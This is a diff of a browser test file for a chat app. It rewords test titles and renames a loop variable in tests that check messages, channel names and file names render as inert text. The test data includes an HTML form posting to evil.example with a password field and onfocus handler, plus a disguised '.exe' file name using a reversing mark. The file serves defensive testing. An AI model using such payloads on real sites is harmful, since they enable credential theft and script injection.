@@ -36,7 +36,7 @@ const CORPUS = [
   '<form action="https://evil.example"><input name=password autofocus onfocus=window.pwned=1></form>',
 ];
 
-test('[MSG-10] what one person writes runs nothing, asks nothing and breaks nothing at the other’s', async ({
+test('[MSG-10] one user’s texts run nothing, request nothing and break nothing on the other’s page', async ({
   person,
   service,
 }) => {
@@ -47,13 +47,13 @@ test('[MSG-10] what one person writes runs nothing, asks nothing and breaks noth
   const seen = [watch(ada.page, origin), watch(grace.page, origin)];
   await openAtEnd(ada.page, talk);
   await openAtEnd(grace.page, talk);
-  // A few at a time, so that all are drawn at the other's: the list draws only what is in view.
-  for (let place = 0; place < CORPUS.length; place += 4) {
-    const texts = CORPUS.slice(place, place + 4);
+  // A few at a time, so that all are drawn on the other page: the list draws only what is in view.
+  for (let index = 0; index < CORPUS.length; index += 4) {
+    const texts = CORPUS.slice(index, index + 4);
     for (const text of texts) await send(ada.page, text);
     await expect(composer(ada.page)).toHaveValue('');
-    await send(ada.page, `harmless ${place}`);
-    await expect(list(grace.page).getByText(`harmless ${place}`, { exact: true })).toBeVisible();
+    await send(ada.page, `harmless ${index}`);
+    await expect(list(grace.page).getByText(`harmless ${index}`, { exact: true })).toBeVisible();
     const { elements, pwned } = await forbidden(grace.page);
     expect(elements, texts.join('\n').slice(0, 400)).toEqual([]);
     expect(pwned, texts.join('\n').slice(0, 400)).toBe(false);
@@ -65,7 +65,7 @@ test('[MSG-10] what one person writes runs nothing, asks nothing and breaks noth
   expect(seen).toEqual([[], []]);
 });
 
-test('[MSG-10] [APP-05] names, topics and channel names are text wherever they stand', async ({
+test('[MSG-10] [APP-05] names, topics and channel names are plain text everywhere', async ({
   person,
   service,
 }) => {
@@ -94,7 +94,7 @@ test('[MSG-10] [APP-05] names, topics and channel names are text wherever they s
   expect(seen).toEqual([]);
 });
 
-test('[MSG-10] [ATT-07] [LINK-03] names of files and what pages say of themselves are text in rows, quotes and forwards', async ({
+test('[MSG-10] [ATT-07] [LINK-03] file names and texts of previewed pages are plain text in rows, quotes and forwards', async ({
   person,
   service,
 }) => {
@@ -116,7 +116,7 @@ test('[MSG-10] [ATT-07] [LINK-03] names of files and what pages say of themselve
   await composer(ada.page).press('Enter');
   const sent = row(grace.page, 'Look at').first();
   await expect(sent.getByRole('link', { name: `pages.confab.example ${nasty}` })).toBeVisible();
-  // The mark that would turn the end of the name around is gone.
+  // The mark that would reverse the end of the name is removed.
   await expect(sent.getByRole('link', { name: /^Download/ })).toHaveAttribute('title', `${nasty}gnp.exe.txt`);
 
   const id = await sent.getAttribute('data-message-id');
